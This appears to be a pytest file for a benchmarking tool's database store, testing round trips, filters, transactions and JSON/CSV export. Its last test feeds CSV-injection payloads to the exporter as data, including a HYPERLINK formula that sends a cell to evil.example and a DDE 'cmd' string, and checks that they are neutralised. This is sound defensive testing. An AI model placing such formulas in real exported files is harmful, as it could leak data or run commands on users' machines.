"""The database round trip on a real SQLite file and a real PostgreSQL database (the `db_url`
fixture runs a test on each backend)."""

import csv
import io
import json

import pytest
from sqlalchemy import text

from rigbench.errors import UsageError
from rigbench.spec import SCHEMA_VERSION, Metrics, Result, TrialSpec
from rigbench.store import Store, resolve_db_url
from rigbench.store.export import to_csv, to_json


def make_result(run_id="r1", status="ok", **metrics):
    spec = TrialSpec(workload="cnn", device="cpu", batch_size=32, workload_options={})
    return Result(run_id=run_id, created_at="2026-01-01T00:00:00+00:00", spec=spec, status=status,
                  error=None if status == "ok" else "boom <script>", metrics=Metrics(**metrics),
                  step_times_s=[0.1, 0.11, 0.09], tracker_samples=[{"t": 1.0, "rss_bytes": 5.0}],
                  software={"torch": "2.13.0"})


def test_round_trip_keeps_everything(db_url):
    store = Store(db_url)
    store.add_run("r1", "2026-01-01T00:00:00+00:00", "rigbench run cnn", {"cpu_model": "X"})
    original = make_result(samples_per_s=320.5, samples_per_s_ci=(300.0, 340.0), steps_measured=3)
    new_id = store.add_result(original)
    assert new_id == original.id
    loaded = store.get(new_id)
    assert loaded == original
    assert loaded.step_times_s == [0.1, 0.11, 0.09]
    assert loaded.tracker_samples == [{"t": 1.0, "rss_bytes": 5.0}]
    assert store.machine("r1") == {"cpu_model": "X"}
    # a new Store on the same database sees the same data (it was committed)
    assert Store(db_url).get(new_id) == original


def test_list_filters_and_failed_results(db_url):
    store = Store(db_url)
    store.add_run("r1", "t", "c", {})
    store.add_run("r2", "t", "c", {})
    store.add_result(make_result("r1"))
    store.add_result(make_result("r2", status="oom"))
    assert [r.status for r in store.list()] == ["ok", "oom"]
    assert [r.status for r in store.list(run_id="r2")] == ["oom"]
    assert [r.run_id for r in store.list(status="ok")] == ["r1"]
    assert store.list(limit=1)[0].status == "oom"  # the newest
    assert store.list()[0].step_times_s == []  # listing does not load raw samples
    assert store.get(999) is None


def test_schema_version_is_stored_and_checked(db_url):
    store = Store(db_url)
    with store.engine.begin() as conn:
        assert conn.execute(text("select value from meta where key='schema_version'")).scalar() == str(SCHEMA_VERSION)
        conn.execute(text("update meta set value='999' where key='schema_version'"))
    with pytest.raises(UsageError, match="newer than this rigbench"):
        Store(db_url)


def test_bad_urls_are_usage_errors(tmp_path):
    with pytest.raises(UsageError):
        Store("nosuchdialect://x")
    assert resolve_db_url("x.db").startswith("sqlite:////")


def test_export_json_and_csv():
    rows = [make_result(samples_per_s=10.0, samples_per_s_ci=(9.0, 11.0))]
    assert '"samples_per_s": 10.0' in to_json(rows)
    # written piece by piece (export.to_json), the text json.dumps would give, key order and indent alike
    two = [*rows, make_result(run_id="r2", status="crash")]
    assert to_json(two) == json.dumps([r.row() for r in two], indent=2) and to_json([]) == "[]"
    csv_text = to_csv(rows)
    header, line = csv_text.splitlines()
    assert header.startswith("id,run_id,created_at,workload")
    assert "[9.0, 11.0]" in line.replace('""', '"')


def test_list_filters_run_in_sql_on_the_new_columns(db_url):
    from rigbench.spec import LrFindOptions, TrainOptions

    store = Store(db_url)
    store.add_run("r1", "t", "c", {})
    specs = [
        TrialSpec(workload="mlp", batch_size=8),
        TrialSpec(workload="mlp", batch_size=16, precision="bf16", device="cuda:0"),
        TrialSpec(workload="mlp", batch_size=8, train=TrainOptions(dataset="digits", epochs=1)),
        TrialSpec(workload="mlp", batch_size=8, lr_find=LrFindOptions(dataset="digits")),
        TrialSpec(workload="cnn", batch_size=8, world_size=2, framework="jax", workload_options={"b": 1, "a": 2}),
    ]
    ids = [store.add_result(Result(run_id="r1", created_at="t", spec=s, status="ok")) for s in specs]
    assert [r.id for r in store.list(kind="train")] == [ids[2]]
    assert [r.id for r in store.list(kind="lr_find")] == [ids[3]]
    assert [r.id for r in store.list(kind="speed", batch_size=8)] == [ids[0], ids[4]]
    assert [r.id for r in store.list(precision="bf16", device="cuda:0")] == [ids[1]]
    assert [r.id for r in store.list(framework="jax", world_size=2)] == [ids[4]]
    assert store.list(framework="jax", batch_size=16) == []
    with store.engine.connect() as conn:
        options = conn.execute(text("select workload_options from trials where id = :id"), {"id": ids[4]}).scalar()
    assert options == '{"a":2,"b":1}'


def test_a_transaction_commits_together_or_not_at_all(db_url):
    store = Store(db_url)
    with pytest.raises(RuntimeError), store.transaction() as tx:
        tx.add_run("r1", "t", "c", {})
        tx.add_result(make_result("r1"))
        assert len(tx.list(run_id="r1")) == 1  # the transaction sees its own writes
        raise RuntimeError("stop")
    assert store.list() == [] and store.machine("r1") is None
    with store.transaction() as tx:
        tx.add_run("r1", "t", "c", {})
        tx.add_result(make_result("r1"))
    assert len(store.list()) == 1


def test_csv_export_writes_formula_text_behind_a_quote_and_numbers_as_numbers():
    # an imported device name or error that a spreadsheet would run as a formula (OWASP CSV injection)
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    result = make_result(status="crash", final_loss=-1.5, samples_per_s=-0.0, dataset="+1", energy_note="-x",
                         energy_method="\tcmd", energy_estimate_basis="\r=1").model_copy(
        update={"device_name": link, "error": "@SUM(1+1)*cmd|' /C calc'!A0"})
    (row,) = csv.DictReader(io.StringIO(to_csv([result]), newline=""))
    assert row["device_name"] == "'" + link and row["error"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (row["dataset"], row["energy_note"], row["energy_method"], row["energy_estimate_basis"]) == (
        "'+1", "'-x", "'\tcmd", "'\r=1")
    assert row["final_loss"] == "-1.5" and row["samples_per_s"] == "-0.0" and row["workload"] == "cnn"
    # a carriage return inside a cell is quoted: it cannot start a row whose first cell is a formula
    broken = make_result().model_copy(update={"device_name": "GPU\r=HYPERLINK(1)\nx"})
    text = to_csv([broken, result])
    assert text.count("\n") == 4 and '"GPU\r=HYPERLINK(1)\nx"' in text  # header, 2 rows; 1 quoted line break
    assert [r["device_name"] for r in csv.DictReader(io.StringIO(text, newline=""))] == ["GPU\r=HYPERLINK(1)\nx", "'" + link]
